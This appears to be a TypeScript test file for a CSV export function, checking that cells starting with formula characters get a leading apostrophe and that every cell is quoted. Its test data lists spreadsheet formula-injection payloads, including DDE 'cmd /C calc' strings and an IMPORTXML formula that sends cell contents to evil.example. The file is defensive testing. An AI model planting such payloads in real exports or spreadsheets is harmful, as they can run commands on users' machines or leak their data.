/** CSV: a spreadsheet shows every cell as text, and a parser reads what was written. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parse } from 'csv-parse/sync'
import { csvOf } from './csv.ts'

/** From OWASP and testers of spreadsheets; each begins a formula in some program. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=HYPERLINK("https://evil.example","click")',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  "-2+3+cmd|' /C calc'!D2",
  '\ttext after a tab',
]

const harmless = [
  'Ada',
  'a=b',
  '1-2',
  'x@y.example',
  '',
  '"quoted"',
  'two\r\nlines',
  'a,b;c',
  "'",
  '{"a":"=1"}',
]

test(`${formulas.length} formulas are text to a spreadsheet, and a parser reads them behind an apostrophe`, () => {
  const text = csvOf({ columns: ['a', 'b'], rows: formulas.map((one) => [one, 'after']) })
  const [, ...rows] = parse(text, { relax_column_count: false }) as string[][]
  assert.deepEqual(
    rows,
    formulas.map((one) => [`'${one}`, 'after']),
  )
})

test('a cell without a formula is not changed', () => {
  const text = csvOf({ columns: ['a', 'b'], rows: harmless.map((one) => [one, null]) })
  const [columns, ...rows] = parse(text) as string[][]
  assert.deepEqual(columns, ['a', 'b'])
  assert.deepEqual(
    rows,
    harmless.map((one) => [one, '']),
  )
})

test('no cell spills into another: every cell is quoted, column names too, and quotes are doubled', () => {
  const text = csvOf({ columns: ['=a'], rows: [['x","=1+1'], ['x"\r\n"=1+1'], ['x;=1+1']] })
  assert.deepEqual(parse(text), [["'=a"], ['x","=1+1'], ['x"\r\n"=1+1'], ['x;=1+1']])
  for (const line of text.trimEnd().split(/\r\n(?!"=)/)) assert.match(line, /^".*"$/s)
})
